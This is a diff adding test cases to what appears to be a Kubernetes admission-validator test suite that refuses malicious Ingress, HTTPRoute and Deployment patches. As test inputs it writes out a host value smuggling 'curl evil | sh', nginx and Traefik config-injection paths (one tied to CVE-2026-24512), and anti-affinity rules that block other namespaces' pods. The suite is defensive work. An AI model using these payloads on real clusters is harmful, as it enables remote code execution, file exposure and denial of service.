@@ -134,6 +134,48 @@ describe('what a patch makes of other objects is refused', () => {
     ],
     ['a host with a command in it', 'Ingress', add('/spec/rules/0/host', 'x; curl evil | sh #'), 'is not a host name'],
     [
+      'CVE-2026-24512',
+      'Ingress',
+      add('/spec/rules/0/http/paths/0/path', '/x {} } location /y { root /; }\n'),
+      'spec.rules[0].http.paths[0].path "/x {} } location /y { root /; }\\u{a}" has signs that no path has',
+    ],
+    [
+      'a rule of Traefik inside a path',
+      'Ingress',
+      add('/spec/rules/0/http/paths/0/path', '/`) || Host(`a.example.com`) && PathPrefix(`/'),
+      'has signs that no path has',
+    ],
+    [
+      'a path of a route that ends a directive',
+      'HTTPRoute',
+      add('/spec/rules/0/matches', [{ path: { type: 'RegularExpression', value: '/;' } }]),
+      'spec.rules[0].matches[0].path.value "/;" has signs that no path has',
+    ],
+    [
+      'no pods of others beside its own',
+      'Deployment',
+      add(`${pod}/affinity`, {
+        podAntiAffinity: {
+          requiredDuringSchedulingIgnoredDuringExecution: [
+            { topologyKey: 'topology.kubernetes.io/zone', namespaceSelector: {}, labelSelector: {} },
+          ],
+        },
+      }),
+      'would keep pods of other namespaces from being scheduled',
+    ],
+    [
+      'no pods of one namespace beside its own',
+      'Deployment',
+      add(`${pod}/affinity`, {
+        podAntiAffinity: {
+          requiredDuringSchedulingIgnoredDuringExecution: [
+            { topologyKey: 'kubernetes.io/hostname', namespaces: ['victim'], labelSelector: {} },
+          ],
+        },
+      }),
+      'would keep pods of other namespaces from being scheduled',
+    ],
+    [
       "another's Service",
       'HTTPRoute',
       add('/spec/rules/0/backendRefs', [{ name: 'page', namespace: 'victim', port: 80 }]),
